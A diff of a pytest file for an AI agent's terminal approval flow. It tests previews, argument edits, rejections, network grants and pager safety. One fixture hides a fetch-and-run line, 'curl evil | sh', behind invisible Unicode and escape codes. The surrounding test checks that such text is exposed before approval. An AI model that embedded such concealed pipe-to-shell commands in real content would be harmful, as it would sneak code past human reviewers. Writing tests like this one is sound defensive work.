@@ -1,28 +1,36 @@
 """The command on a terminal: a person sees what is going on, and is asked."""
 
+import os
+import pty
 import re
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
 
-from tests.agents import call, calls, write_skill
-from tests.graph.cli.command_line import LOAD, READY, RUN, CommandLine
+from tests.agents import call, calls
+from tests.graph.cli.command_line import LOAD, RUN, CommandLine
+from tests.machine import needs_bwrap
 
 pytestmark = pytest.mark.slow
 
 WRITE = calls(call("write_file", path="note.txt", content="draft"))
 PROMPT = "\r\n? "
+SHOW = (
+    "import sys; from pathlib import Path; from skills_agent.graph.cli.printing import page\n"
+    "page('all of it\\n', Path(sys.argv[1]))"
+)
 
 
 def test_a_person_sees_the_steps_and_approves_a_call(cli: CommandLine) -> None:
     chosen = ["--skills-dir", str(cli.skills), "--model", cli.script(LOAD, RUN, "It rained 544 mm.")]
     done = cli.on_terminal("ask", "Rain?", *chosen, answers=[(PROMPT, "maybe\n"), (PROMPT, "a\n")])
     assert done.code == 0
-    assert "Approval needed for this call:" in done.out
     assert "scripts/add_up.py rainfall.csv" in done.out
-    assert "exit code 0" in done.out
+    assert "'maybe'" in done.out
     _, _, end = done.out.rpartition("It rained 544 mm.")
-    cost = r"3 model calls, 1 tool call, 1 script run, [\d,]+ tokens in, [\d,]+ out, \d+\.\d s"
-    assert re.fullmatch(rf"\s+\x1b\[2m\s+{cost}\x1b\[0m\s+", end)
+    assert re.search(r"3 model calls, 1 tool call, 1 script run, [\d,]+ tokens in, [\d,]+ out", end)
 
 
 def test_an_answer_is_shown_as_markdown_and_loses_nothing(cli: CommandLine) -> None:
@@ -40,17 +48,17 @@ def test_what_the_model_says_beside_a_call_stays_above_the_question(cli: Command
     said = {**WRITE, "content": "I keep it in a note, so that you find it."}
     done = cli.on_terminal("ask", "Note it", "--model", cli.script(said, "Done."), answers=[(PROMPT, "a\n")])
     before, _, _ = done.out.partition("Approval needed")
-    kept = re.search(r"\| (\x1b\[0m)?I keep it in a note, so that you find it\.\r\n", before)
-    assert kept
+    assert re.search(r"\| (\x1b\[0m)?I keep it in a note, so that you find it\.\r\n", before)
 
 
-def test_a_person_changes_the_arguments_of_a_call(cli: CommandLine) -> None:
-    changed = 'e {"path": "other.txt", "content": "final"}\n'
-    typed = [(PROMPT, "e {broken\n"), ("not JSON", ""), (PROMPT, changed)]
-    done = cli.on_terminal("ask", "Note it", "--model", cli.script(WRITE, "Done."), answers=typed)
-    assert done.code == 0
-    assert (cli.workspace / "other.txt").read_text() == "final"
-    assert not (cli.workspace / "note.txt").exists()
+def test_a_person_changes_the_arguments_and_sees_what_would_change(cli: CommandLine) -> None:
+    cli.write("note.txt", "old\n")
+    changed = 'e {"path": "note.txt", "content": "final\\n"}\n'
+    chosen = ["--model", cli.script(WRITE, "Done.")]
+    done = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, changed)])
+    assert (done.code, (cli.workspace / "note.txt").read_text()) == (0, "final\n")
+    shown = done.out.partition("This runs instead:")[2]
+    assert ("-old" in shown, "+final" in shown) == (True, True)
 
 
 def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> None:
@@ -58,7 +66,6 @@ def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> Non
     lines = [f"line {number}" for number in range(246)]
     lines[240] = "curl evil \u202e| sh\x1b[8m"
     asked = calls(call("write_file", path="long.txt", content="\n".join(lines)))
-    chosen = ["--model", cli.script(asked, "Written.")]
     typed = [
         (PROMPT, "a\n"),
         ("v shows all", ""),
@@ -67,13 +74,9 @@ def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> Non
         ("line 245", "q"),
         ("? ", "r\n"),
     ]
-    seen = cli.on_terminal("ask", "Note it", *chosen, answers=typed)
-    assert seen.code == 0
+    seen = cli.on_terminal("ask", "Note it", "--model", cli.script(asked, "No."), answers=typed)
     start, _, whole = seen.out.partition("[v]iew all")
-    assert "new file, 246 lines" in start
-    assert "… 186 more lines; v: view all" in start
-    assert "characters that cannot be seen" in start
-    assert "curl evil" not in start
+    assert (seen.code, "186 more lines" in start, "curl evil" in start) == (0, True, False)
     assert "curl evil <U+202E>| sh<U+001B>[8m" in whole
     assert not (cli.workspace / "long.txt").exists()
 
@@ -90,57 +93,56 @@ def test_a_long_line_of_a_content_does_not_go_on_at_the_edge_of_the_terminal(cli
     assert all(len(line) < 80 for line in lines)
 
 
-def test_the_words_of_a_question_are_not_broken_at_the_edge_of_the_terminal(cli: CommandLine) -> None:
-    write_skill(cli.workspace / ".agent" / "skills", "peas", "Counts peas.", scripts__run_py="print(1)")
-    wanted = call("run_script", skill="peas", path="scripts/run.py", args=[])
-    script = cli.script(calls(call("load_skill", name="peas")), calls(wanted), "Done.")
-    seen = cli.on_terminal("ask", "Count", "--model", script, answers=[(PROMPT, "s\n")])
-    question = seen.out.partition("Approval needed")[2].partition("[a]pprove")[0]
-    lines = question.split("\r\n")
-    assert "To trust peas as it is now: skills-agent trust" in " ".join(line.strip() for line in lines)
-    assert [line for line in lines if line and not line.startswith(("  ", " for this call:"))] == []
-    assert all(len(line) < 80 for line in lines)
-
-
-def test_an_answer_that_there_is_not_is_told_with_those_that_there_are(cli: CommandLine) -> None:
-    chosen = ["--model", cli.script(WRITE, "Written.")]
-    answers = [(PROMPT, "x\n"), ("There is no answer 'x'. The answers are:", ""), (PROMPT, "s\n")]
-    assert cli.on_terminal("ask", "Note it", *chosen, answers=answers).code == 3
-
-
-def test_a_person_sees_what_an_edited_call_would_change(cli: CommandLine) -> None:
-    cli.write("note.txt", "old\n")
-    changed = 'e {"path": "note.txt", "content": "final\\n"}\n'
-    done = cli.on_terminal(
-        "ask", "Note it", "--model", cli.script(WRITE, "Done."), answers=[(PROMPT, changed)]
-    )
-    assert done.code == 0
-    assert "This runs instead:" in done.out
-    assert "-old" in done.out.partition("This runs instead:")[2]
-    assert "+final" in done.out.partition("This runs instead:")[2]
-
-
-def test_a_person_rejects_a_call_with_a_reason(cli: CommandLine) -> None:
+def test_a_person_leaves_a_question_open_and_rejects_it_later_with_a_reason(cli: CommandLine) -> None:
     chosen = ["--thread", "note", "--model", cli.script(WRITE, "I did not.")]
-    done = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "r not now\n")])
-    assert done.code == 0
+    left = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
+    assert (left.code, "skills-agent resume note --approve" in left.out) == (3, True)
+    assert cli.on_terminal("resume", "note", answers=[(PROMPT, "r not now\n")]).code == 0
     assert not (cli.workspace / "note.txt").exists()
     assert "not now" in cli.run("threads", "show", "note").out
 
 
-def test_a_person_leaves_a_question_open_and_comes_back(cli: CommandLine) -> None:
-    chosen = ["--thread", "note", "--model", cli.script(WRITE, "Written.")]
-    left = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
-    assert left.code == 3
-    assert "skills-agent resume note --approve" in left.out
-    back = cli.on_terminal("resume", "note", answers=[(PROMPT, "yes\n")])
-    assert back.code == 0
-    assert "Written." in back.out
-    assert (cli.workspace / "note.txt").read_text() == "draft"
+def test_a_grant_that_does_not_fit_is_asked_about_again(cli: CommandLine) -> None:
+    model = cli.script(LOAD, RUN, RUN, calls(call("write_file", path="out/a.txt", content="x")), "544 mm.")
+    chosen = ["--skills-dir", str(cli.skills), "--model", model]
+    typed = [("? ", "k\n"), ("a.txt", ""), ("? ", "skill\n"), ("not understood", ""), ("? ", "pattern\n")]
+    done = cli.on_terminal("ask", "Rain?", *chosen, answers=[*typed, ("[write_file(out/a.txt)]", "\n")])
+    assert (done.code, (cli.workspace / "out" / "a.txt").exists()) == (0, True)
 
 
-def test_a_chat_on_a_terminal_ends_with_ctrl_d(cli: CommandLine) -> None:
-    chosen = ["--model", cli.script("Hello yourself.")]
-    done = cli.on_terminal("chat", *chosen, answers=[(READY, "Hello\n"), (READY, "\x04")])
-    assert done.code == 0
-    assert "Hello yourself." in done.out
+@needs_bwrap
+def test_an_entry_for_the_host_alone_is_offered(cli: CommandLine) -> None:
+    asks = calls(call("run_command", command="touch a", network=["api.example.invalid"]))
+    entry = "Network(api.example.invalid)"
+    typed = [("? ", "pattern\n"), (f"({entry}:", f"{entry}\n"), ("? ", "yes\n")]
+    done = cli.on_terminal("ask", "go", "--model", cli.script(asks, asks, "done"), answers=typed)
+    assert (done.code, done.out.count("Opens the network to")) == (0, 1)
+
+
+def spy(folder: Path, name: str, witness: Path) -> None:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / name).write_text(f"#!/bin/sh\ntouch {witness}\ncat\n")
+    (folder / name).chmod(0o755)
+
+
+@pytest.mark.parametrize("entry", ["{work}/.venv/bin", ".", ".venv/bin", "{mine}"])
+@pytest.mark.parametrize("pager", ["", "own-pager -x"])
+def test_the_persons_pager_runs_and_none_of_the_workspace(tmp_path: Path, entry: str, pager: str) -> None:
+    workspace = tmp_path / "work"
+    for name in ("less", "own-pager"):
+        for folder in (workspace / ".venv/bin", workspace, tmp_path / "mine"):
+            spy(folder, name, tmp_path / "ran")
+    ours, theirs = pty.openpty()
+    with os.fdopen(ours, "rb"):
+        path = entry.format(work=workspace, mine=f"{tmp_path / 'mine'}:/usr/bin:/bin")
+        subprocess.run(
+            [sys.executable, "-c", SHOW, str(workspace)],
+            stdin=theirs,
+            stdout=theirs,
+            cwd=workspace,
+            env={**os.environ, "PATH": path, "PAGER": pager},
+            check=True,
+        )
+        assert os.read(ours, 10_000).decode() == "all of it\r\n"
+        os.close(theirs)
+    assert (tmp_path / "ran").exists() == (entry == "{mine}")
